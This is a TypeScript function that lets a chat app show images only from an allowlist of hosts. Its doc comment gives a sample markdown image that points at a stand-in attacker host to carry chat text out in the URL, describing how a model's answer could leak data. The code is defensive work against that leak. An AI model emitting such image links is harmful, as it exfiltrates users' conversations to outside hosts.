/**
 * Whether images from `hostname` may be shown: the hosts of the config's
 * `image_proxy.allowed_hosts` (the browser gets them as `imageHosts` in `/app-config.json`).
 * `img.example.com` matches that host only; `*.example.com` any subdomain of it but not the
 * domain itself, as the same entry does in the CSP's `img-src`. No entry matches everything:
 * an image's address reaches its host when it loads, so an answer could otherwise send chat text
 * to any host it names (`![x](https://attacker.example/p.png?d=…)`).
 */
export function isAllowedImageHost(hostname: string, allowedHosts: readonly string[]): boolean {
  const host = hostname.toLowerCase();
  return allowedHosts.some((entry) => (entry.startsWith('*.') ? host.endsWith(entry.slice(1)) : host === entry));
}
